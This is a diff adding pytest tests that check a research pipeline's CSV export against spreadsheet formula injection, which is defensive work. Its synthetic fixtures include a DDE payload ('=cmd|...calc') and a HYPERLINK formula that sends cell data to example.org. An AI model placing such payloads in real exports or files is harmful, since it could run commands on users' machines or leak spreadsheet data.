@@ -14,9 +14,10 @@ from sqlalchemy import func, select
 
 from pipeline.errors import ExportError
 from pipeline.export import consensus, export_csv
-from pipeline.export.tabular import AGREEMENT_COLUMNS, CODING_COLUMNS, SEGMENT_COLUMNS
+from pipeline.export.cells import FormulaGuard, neutralise_formula
+from pipeline.export.tabular import AGREEMENT_COLUMNS, CODING_COLUMNS, SEGMENT_COLUMNS, TEXT_COLUMNS
 from pipeline.store.db import session_scope
-from pipeline.store.models import AuditLog, Coding, Segment
+from pipeline.store.models import AuditLog, Coding, Segment, Transcript
 from tests.test_export_fixtures import RAW_ONLY, SeededProject, seed_project
 
 
@@ -150,3 +151,121 @@ def test_csv_exports_hold_no_raw_text_and_are_audited(seeded: SeededProject, db_
     assert [r.details["level"] for r in rows] == ["coding", "segment", "agreement"]
     assert all(r.actor == "tester" and r.details["rows"] > 0 for r in rows)
     assert not any(t in json.dumps(r.details) for r in rows for t in texts)
+
+
+# --------------------------------------------------------------------------------------------------
+# Spreadsheet formula injection (CWE-1236)
+# --------------------------------------------------------------------------------------------------
+# SYNTHETIC hostile values, written over the synthetic project: a segment, a note, a coder, a speaker role
+# and an inbox file name that a spreadsheet would run as formulas.
+HOSTILE_TEXT = '=HYPERLINK("https://example.org/?"&A2,"open")'
+HOSTILE_NOTE = "+1 agreed with bob"
+HOSTILE_CODER = "@SUM(1+1)"
+HOSTILE_ROLE = "-participant"
+HOSTILE_FILE = "=cmd|' /C calc'!A0.txt"
+HOSTILE_CODE = "@school"  # a code key outside the codebook: a column name of the segment matrix
+
+
+def plant_hostile_values(url: str, seeded: SeededProject) -> int:
+    """Plant the hostile values on segment T2/1 and its codings; return the segment id."""
+    seg_id = seeded.segments[("T2", 1)]
+    with session_scope(url) as session:
+        segment = session.get(Segment, seg_id)
+        assert segment is not None
+        segment.text = HOSTILE_TEXT
+        segment.speaker_role = HOSTILE_ROLE
+        session.get(Transcript, seeded.transcripts["T2"]).source_name = HOSTILE_FILE  # type: ignore[union-attr]
+        review = session.scalars(select(Coding).where(Coding.segment_id == seg_id, Coding.source == "review")).one()
+        review.note = HOSTILE_NOTE
+        review.coder = HOSTILE_CODER
+        review.certainty = -1  # out of the 1..5 range on purpose: a negative number in a numeric column
+        manual = session.scalars(select(Coding).where(Coding.code_key == "school_involvement")).one()
+        manual.code_key = HOSTILE_CODE
+    return seg_id
+
+
+def test_guard_prefixes_only_text_columns_and_counts() -> None:
+    guard = FormulaGuard(frozenset({1, 2}))
+    assert guard.row([-1, "=1+2", -0.5]) == [-1, "'=1+2", -0.5]  # position 2 holds a number: untouched
+    assert guard.row(["-1", "-1", ""]) == ["-1", "'-1", ""]  # in a text column "-1" is text (and -1+1 a formula)
+    assert guard.row([0, "\tx", "\r\nx"]) == [0, "'\tx", "'\r\nx"]
+    assert guard.row([0, " =1+2", "a=b", "'=already"]) == [0, " =1+2", "a=b", "'=already"]
+    assert guard.changed == 4
+    assert [neutralise_formula(c + "x") for c in "=+-@\t\r\n"] == ["'" + c + "x" for c in "=+-@\t\r\n"]
+    assert neutralise_formula("") == "" and neutralise_formula("plain") == "plain"
+
+
+def test_coding_level_is_formula_safe_by_default_and_exact_when_raw(
+    seeded: SeededProject, db_url: str, tmp_path: Path
+) -> None:
+    seg_id = plant_hostile_values(db_url, seeded)
+    safe_path, raw_path = tmp_path / "safe.csv", tmp_path / "raw.csv"
+    safe_summary = _export(db_url, safe_path)
+    raw_summary = _export(db_url, raw_path, formula_safe=False)
+    _header, safe_rows = _read(safe_path)
+    _header, raw_rows = _read(raw_path)
+    assert len(safe_rows) == len(raw_rows)
+
+    hostile = [r for r in raw_rows if r["segment_id"] == str(seg_id)]
+    assert {r["text"] for r in hostile} == {HOSTILE_TEXT} and {r["transcript"] for r in hostile} == {HOSTILE_FILE}
+    assert {r["speaker_role"] for r in hostile} == {HOSTILE_ROLE}
+    (raw_review,) = [r for r in hostile if r["source"] == "review"]
+    assert (raw_review["note"], raw_review["coder"]) == (HOSTILE_NOTE, HOSTILE_CODER)
+    assert {r["code"] for r in raw_rows} >= {HOSTILE_CODE}
+
+    safe_hostile = [r for r in safe_rows if r["segment_id"] == str(seg_id)]
+    assert {r["text"] for r in safe_hostile} == {"'" + HOSTILE_TEXT}
+    assert {r["speaker_role"] for r in safe_hostile} == {"'" + HOSTILE_ROLE}
+    (safe_review,) = [r for r in safe_hostile if r["source"] == "review"]
+    assert (safe_review["note"], safe_review["coder"]) == ("'" + HOSTILE_NOTE, "'" + HOSTILE_CODER)
+    assert safe_review["certainty"] == raw_review["certainty"] == "-1"  # a number, not a formula: untouched
+    assert "'" + HOSTILE_CODE in {r["code"] for r in safe_rows}
+    # every T2 row names the hostile file; no text cell of the safe file starts like a formula
+    assert all(
+        r["transcript"] == "'" + HOSTILE_FILE for r in safe_rows if r["transcript_id"] == raw_review["transcript_id"]
+    )
+    assert not any(r[c][:1] in set("=+-@\t\r\n") for r in safe_rows for c in TEXT_COLUMNS)
+
+    # numeric columns are byte-for-byte the same in both modes; other rows are untouched entirely
+    numeric = [c for c in CODING_COLUMNS if c not in TEXT_COLUMNS]
+    assert [[r[c] for c in numeric] for r in safe_rows] == [[r[c] for c in numeric] for r in raw_rows]
+    assert [r for r in safe_rows if r["transcript_id"] != raw_review["transcript_id"]] == [
+        r for r in raw_rows if r["transcript_id"] != raw_review["transcript_id"]
+    ]
+
+    changed = sum(
+        s != r
+        for safe, raw in zip(safe_rows, raw_rows, strict=True)
+        for s, r in zip(safe.values(), raw.values(), strict=True)
+    )
+    assert (safe_summary.formula_safe, safe_summary.neutralised_cells) == (True, changed)
+    assert (raw_summary.formula_safe, raw_summary.neutralised_cells) == (False, 0)
+    with session_scope(db_url) as session:
+        details = [
+            r.details
+            for r in session.scalars(select(AuditLog).where(AuditLog.action == "export.csv").order_by(AuditLog.id))
+        ]
+    assert [(d["formula_safe"], d["neutralised_cells"]) for d in details] == [(True, changed), (False, 0)]
+    assert not any(HOSTILE_TEXT in json.dumps(d) or HOSTILE_NOTE in json.dumps(d) for d in details)
+
+
+def test_segment_and_agreement_levels_are_formula_safe(seeded: SeededProject, db_url: str, tmp_path: Path) -> None:
+    seg_id = plant_hostile_values(db_url, seeded)
+    for formula_safe, prefix in ((True, "'"), (False, "")):
+        out = tmp_path / f"segments-{formula_safe}.csv"
+        _export(db_url, out, level="segment", formula_safe=formula_safe)
+        header, rows = _read(out)
+        assert header[-2:] == [prefix + HOSTILE_CODE, "text"]  # a header cell is text too
+        (row,) = [r for r in rows if r["segment_id"] == str(seg_id)]
+        assert (row["text"], row["speaker_role"], row["transcript"]) == (
+            prefix + HOSTILE_TEXT,
+            prefix + HOSTILE_ROLE,
+            prefix + HOSTILE_FILE,
+        )
+        assert (row["referral_delay"], row["family_support"], row["n_coders"]) == ("1", "0", "1")  # numbers as ever
+
+        out = tmp_path / f"agreement-{formula_safe}.csv"
+        _export(db_url, out, level="agreement", include_sources=["blind", "review"], formula_safe=formula_safe)
+        _header, rows = _read(out)
+        assert {r["coder"] for r in rows if r["unit_id"] == str(seg_id)} == {prefix + HOSTILE_CODER}
+        assert all(r["unit_id"].isdigit() and r["applied"] in ("0", "1") for r in rows)
